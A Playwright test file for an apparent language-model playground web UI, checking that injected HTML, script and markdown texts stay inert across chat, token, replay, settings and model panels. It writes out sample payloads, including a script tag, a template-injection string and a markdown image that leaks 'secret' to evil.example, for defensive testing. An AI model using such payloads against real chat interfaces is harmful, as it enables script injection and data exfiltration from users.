"""Ninety texts that try to be more than text, wherever the page shows one: nothing runs, loads, covers or widens."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from playground.limits import TurnOptions
from tests.playground.browser_tab import Tab
from tests.playground.conftest import RunningApp
from tests.playground.evil_app import evil_app
from tests.playground.evil_corpus import CORPUS, COVERS, SCRIPTS
from tests.playground.inertness import Witness

pytestmark = pytest.mark.ui
JOINED = "\n\n".join(text[:300] for text in CORPUS)[:30_000]
"""What a visitor types into one box."""


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    with evil_app(tmp_path_factory.mktemp("data")) as app:
        yield app


@pytest.fixture
def witness(app: RunningApp, context: BrowserContext) -> Witness:
    return Witness(context, app.url)


def visit(app: RunningApp, context: BrowserContext, sid: str = "", width: int = 1280) -> Tab:
    page = context.new_page()
    page.set_viewport_size({"width": width, "height": 900})
    page.goto(f"{app.url}?s={sid}" if sid else app.url)
    return Tab(page)


def talked(app: RunningApp) -> str:
    """A conversation in which every text was asked, and answered with a text; the last answer says them all."""
    talk = app.service.registry.new()
    options = TurnOptions(max_new=len(CORPUS))
    for text in CORPUS:
        talk.send(text, options).result(10)
    app.service.engine.answer = len(CORPUS)  # type: ignore[union-attr]
    talk.send("everything", options).result(10)
    app.service.engine.answer = 1  # type: ignore[union-attr]
    return talk.sid


def test_what_was_said_does_nothing_in_chat_token_view_and_panels(
    app: RunningApp, context: BrowserContext, witness: Witness
) -> None:
    assert len(CORPUS) >= 50
    one = visit(app, context, talked(app))
    page = one.page
    expect(one.answers()).to_have_count(len(CORPUS) + 1, timeout=30_000)
    expect(page.locator("#tokens [data-id]").first).to_be_visible()
    page.wait_for_function("() => document.querySelectorAll('#panels .js-plotly-plot').length >= 6")
    for button in page.locator("#panels button", has_text="Table").filter(visible=True).all():
        button.click()
    for place in (0.3, 0.6, 0.9):
        box = page.locator("[data-panel=pending] .nsewdrag").first.bounding_box()
        if box is not None:
            page.mouse.move(box["x"] + box["width"] * place, box["y"] + box["height"] * 0.3)
            page.wait_for_timeout(60)
    assert "<script>window.evil=1</script>" in one.questions().first.inner_text()
    assert witness.faults(page) == []
    page.set_viewport_size({"width": 360, "height": 740})
    page.wait_for_timeout(300)
    assert witness.faults(page) == []


def test_inspector_list_of_conversations_and_replay_take_them_as_text(
    app: RunningApp, context: BrowserContext, witness: Witness, tmp_path: Path
) -> None:
    one = visit(app, context, talked(app))
    page = one.page
    expect(page.locator("#tokens [data-id]").first).to_be_visible(timeout=30_000)
    for place in (0, 30, 60):
        page.locator("#tokens [data-id]").nth(place).click()
        expect(page.locator("[data-panel=inspector]")).to_be_visible()
        page.wait_for_timeout(150)
        assert witness.faults(page) == []
    page.keyboard.press("Escape")
    page.locator("#conversations summary").click()
    expect(page.locator("#conversations .dc-list > li").first).to_be_visible(timeout=10_000)
    assert witness.faults(page) == []
    with page.expect_download() as download:
        page.locator("#trace .save").click()
    download.value.save_as(tmp_path / "trace.jsonl.gz")
    show(page, "Replay", "#replay_view input[type=file]")
    page.locator("#replay_view input[type=file]").set_input_files(tmp_path / "trace.jsonl.gz")
    expect(page.locator("#replay_bar .rp-banner")).to_be_visible(timeout=20_000)
    page.wait_for_timeout(500)
    assert witness.faults(page) == []
    page.set_viewport_size({"width": 360, "height": 740})
    page.wait_for_timeout(300)
    assert witness.faults(page) == []


def test_boxes_of_the_page_take_them_as_text(app: RunningApp, context: BrowserContext, witness: Witness) -> None:
    one = visit(app, context)
    page = one.page
    one.open_section("Decoding settings")
    for name in ("system", "stop_strings"):
        page.locator(f"#{name} textarea").fill(JOINED)
        page.locator(f"#{name} textarea").press("Tab")
    one.press_send("one")
    expect(page.locator("#refusal")).not_to_have_text("", timeout=10_000)  # the stop strings are too many
    page.locator("#stop_strings textarea").fill("\n".join(text.split("\n")[0] for text in SCRIPTS[:8]))
    page.locator("#stop_strings textarea").press("Tab")
    one.send(JOINED)
    one.expect_idle()
    one.open_section("Go back")
    page.locator("#edit_which input").click()
    expect(page.locator("[role=option]").first).to_be_visible()
    page.keyboard.press("Escape")
    assert witness.faults(page) == []


def test_race_sweep_and_models_take_them_as_text(app: RunningApp, context: BrowserContext, witness: Witness) -> None:
    page = visit(app, context).page
    app.service.engine.answer = 1000  # type: ignore[union-attr]
    show(page, "Race", "#race_prompt")
    page.locator("#race_prompt textarea").fill(JOINED)
    page.locator("#race_start").click()
    expect(page.locator("#race_verdict")).to_contain_text("Identical", timeout=20_000)
    app.service.engine.answer = 1  # type: ignore[union-attr]
    assert witness.faults(page) == []

    show(page, "Sweep", "#sweep_start")
    page.locator("#sweep_name").get_by_role("textbox").fill(SCRIPTS[3])
    page.locator("#sweep_lines textarea").fill("\n".join(text.split("\n")[0][:200] for text in CORPUS[:6]))
    page.locator("#sweep_lines textarea").press("Tab")
    page.locator("#sweep_start").click()
    expect(page.locator("#sweep_status")).to_contain_text("sweep is complete", timeout=30_000)
    expect(page.locator("#sweep_library tbody tr")).to_contain_text(SCRIPTS[3])
    assert witness.faults(page) == []

    show(page, "Models", "#models_form")
    box, refusal = page.locator("#models_checkpoint input"), page.locator("#models_refusal .says")
    for text in (SCRIPTS[3], COVERS[0], "a/${window.evil=1}"):
        box.fill(text)
        box.press("Enter")
        expect(refusal).to_have_text("")
        page.locator("#models_load").click()
        expect(refusal).to_contain_text("is not a checkpoint reference")
    assert witness.faults(page) == []


def show(page: Page, name: str, ready: str) -> None:
    page.get_by_role("tab", name=name, exact=True).click()
    expect(page.locator(ready)).to_be_visible(timeout=10_000)
    page.wait_for_timeout(400)


def test_teeth_a_page_that_does_not_escape_is_caught(
    app: RunningApp, context: BrowserContext, witness: Witness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("playground.viewer.inert", lambda text: text)
    talk = app.service.registry.new()
    for text in (*COVERS[:5], "![pixel](https://evil.example/?q=secret)"):
        talk.send(text, TurnOptions(max_new=1)).result(10)
    one = visit(app, context, talk.sid)
    expect(one.answers()).to_have_count(6, timeout=20_000)
    found = " ".join(witness.faults(one.page))
    assert "is styled" in found and "a form" in found, found
    assert "evil.example" in found, found
    one.page.locator("#tokens .ds-tokens").evaluate(
        "(node, texts) => { node.hidden = false; node.innerHTML = texts.join(' '); }", list(SCRIPTS[:8])
    )
    one.page.wait_for_function("() => window.evil === 1", timeout=5000)
    assert "a script ran" in witness.faults(one.page)
